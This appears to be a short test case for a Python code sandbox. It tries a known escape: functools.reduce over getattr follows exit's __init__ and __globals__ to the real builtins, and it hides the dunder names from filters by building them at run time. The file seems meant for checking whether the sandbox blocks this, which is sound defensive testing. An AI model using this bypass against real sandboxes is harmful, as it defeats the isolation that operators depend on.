# technique: functools.reduce(builtins.getattr, [names...], exit) walks a run-time attribute chain to the real builtins
# configs: default, stdlib_all
# stdlib_all: in-process — operator/getattr read the task process's own frames
# With nothing allowed the imports are refused; under stdlib * this reads blocked attributes.
import builtins
import functools
u = '_' * 2
g = functools.reduce(builtins.getattr, [u + 'init' + u, u + 'globals' + u], exit)
return [{'json': {'escaped': sorted(g)[:12]}}]
